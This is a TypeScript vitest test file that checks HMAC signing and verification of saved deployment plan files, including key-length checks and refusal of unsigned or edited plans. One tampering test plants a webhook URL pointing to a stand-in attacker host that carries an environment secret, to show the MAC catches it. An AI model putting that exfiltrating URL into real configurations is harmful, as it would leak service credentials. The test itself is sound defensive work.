// The plan's MAC: keyed (a sha256 anyone can recompute is not), bound to the exact content and to its
// purpose, compared in constant time; with a key set, an unsigned or wrongly signed plan is refused.

import { createHash, createHmac } from 'node:crypto';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { DiagnosticsError } from '../../src/model/diagnostics.js';
import { macMatches, PLAN_KEY_MIN_LENGTH, planKeyFrom, PlanKeyError, planMac } from '../../src/plan/saved/plan-file.js';
import { readPlan, savePlan } from '../../src/run/plan-files.js';
import { type Plan, PLAN_FORMAT_VERSION } from '../../src/model/plan.js';

const KEY = 'a'.repeat(PLAN_KEY_MIN_LENGTH);
const OTHER = 'b'.repeat(PLAN_KEY_MIN_LENGTH);

const plan: Plan = {
  formatVersion: PLAN_FORMAT_VERSION,
  accounts: [{ name: 'prod', orgAccess: false }],
  changes: [
    {
      key: 'prod/AlertChannel/hook',
      action: 'update',
      kind: 'AlertChannel',
      account: 'prod',
      name: 'hook',
      liveId: 'PROD_1',
      after: { type: 'Webhook', data: { webhookUrl: { $env: '${env:HOOK_URL}' } } },
      writeOnly: [],
      sensitive: [],
      dependsOn: [],
      liveDigest: 'd',
    },
  ],
  summary: { create: 0, update: 1, replace: 0, delete: 0, unmanaged: 0 },
  unmanaged: [],
  diagnostics: [],
  apiCalls: { total: 2, byBucket: {} },
  budget: [],
};

describe('planMac', () => {
  it('is an HMAC-SHA256 of the plan keyed by the key: another key, another content or a plain sha256 do not match', () => {
    const mac = planMac(plan, KEY);
    expect(mac).toMatch(/^[0-9a-f]{64}$/);
    expect(planMac(plan, KEY)).toBe(mac);
    expect(planMac(plan, OTHER)).not.toBe(mac);
    const edited = structuredClone(plan);
    edited.changes[0].action = 'delete';
    expect(planMac(edited, KEY)).not.toBe(mac);
    // Not the checksum's hash, and not an HMAC of the bare JSON: the MAC names its purpose.
    expect(mac).not.toBe(createHash('sha256').update(JSON.stringify(plan)).digest('hex'));
    expect(mac).not.toBe(createHmac('sha256', KEY).update(JSON.stringify(plan)).digest('hex'));
  });

  it('macMatches accepts only the right MAC, in hex of the right length', () => {
    const mac = planMac(plan, KEY);
    expect(macMatches(plan, KEY, mac)).toBe(true);
    expect(macMatches(plan, OTHER, mac)).toBe(false);
    expect(macMatches(plan, KEY, mac.toUpperCase())).toBe(false);
    expect(macMatches(plan, KEY, mac.slice(0, 63))).toBe(false);
    expect(macMatches(plan, KEY, `${mac.slice(0, 63)}${mac[63] === '0' ? '1' : '0'}`)).toBe(false);
    for (const bad of [undefined, null, 42, {}, '']) expect(macMatches(plan, KEY, bad)).toBe(false);
  });
});

describe('planKeyFrom', () => {
  it('is undefined when unset or empty, the key when long enough', () => {
    expect(planKeyFrom({})).toBeUndefined();
    expect(planKeyFrom({ POSTUREOPS_PLAN_KEY: '' })).toBeUndefined();
    expect(planKeyFrom({ POSTUREOPS_PLAN_KEY: KEY })).toBe(KEY);
  });

  it('refuses a short key without showing it', () => {
    const short = 'hunter2-secret';
    let error: unknown;
    try {
      planKeyFrom({ POSTUREOPS_PLAN_KEY: short });
    } catch (e) {
      error = e;
    }
    expect(error).toBeInstanceOf(PlanKeyError);
    expect((error as Error).message).toContain(`at least ${PLAN_KEY_MIN_LENGTH}`);
    expect((error as Error).message).not.toContain(short);
  });
});

describe('signed plan files', () => {
  let dir: string;
  beforeEach(async () => {
    dir = await mkdtemp(join(tmpdir(), 'postureops-mac-'));
  });
  afterEach(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  const code = (p: Promise<unknown>): Promise<string | undefined> =>
    p.then(
      () => undefined,
      (e: unknown) => (e instanceof DiagnosticsError ? e.diagnostics[0].code : String(e)),
    );

  it('saved with a key: verified with it, refused with another; unverifiable without one; the key is not in the file', async () => {
    const file = join(dir, 'signed.json');
    await savePlan(file, plan, KEY);
    const text = await readFile(file, 'utf8');
    expect(text).not.toContain(KEY);
    expect(JSON.parse(text).mac).toBe(planMac(plan, KEY));
    expect(await readPlan(file, KEY)).toEqual({ plan, signature: 'verified' });
    expect(await code(readPlan(file, OTHER))).toBe('plan-file-mac-wrong');
    expect(await readPlan(file)).toEqual({ plan, signature: 'unverifiable' });
  });

  it('saved without a key: unsigned; refused once a key is set', async () => {
    const file = join(dir, 'unsigned.json');
    await savePlan(file, plan);
    expect(JSON.parse(await readFile(file, 'utf8')).mac).toBeUndefined();
    expect(await readPlan(file)).toEqual({ plan, signature: 'unsigned' });
    expect(await code(readPlan(file, KEY))).toBe('plan-file-mac-missing');
  });

  it('an edit with the checksum recomputed passes the checksum but not the MAC', async () => {
    const file = join(dir, 'edited.json');
    await savePlan(file, plan, KEY);
    const { checksum: _c, mac, ...value } = JSON.parse(await readFile(file, 'utf8'));
    value.changes[0].after.data.webhookUrl = { $env: 'https://attacker.example/x?k=${env:SVC_API_SECRET}' };
    const checksum = createHash('sha256').update(JSON.stringify(value)).digest('hex');
    await writeFile(file, JSON.stringify({ ...value, checksum, mac }));
    expect(await code(readPlan(file, KEY))).toBe('plan-file-mac-wrong');
    // Without the key only the re-derivation in apply stands between this file and the service.
    expect((await readPlan(file)).signature).toBe('unverifiable');
  });
});
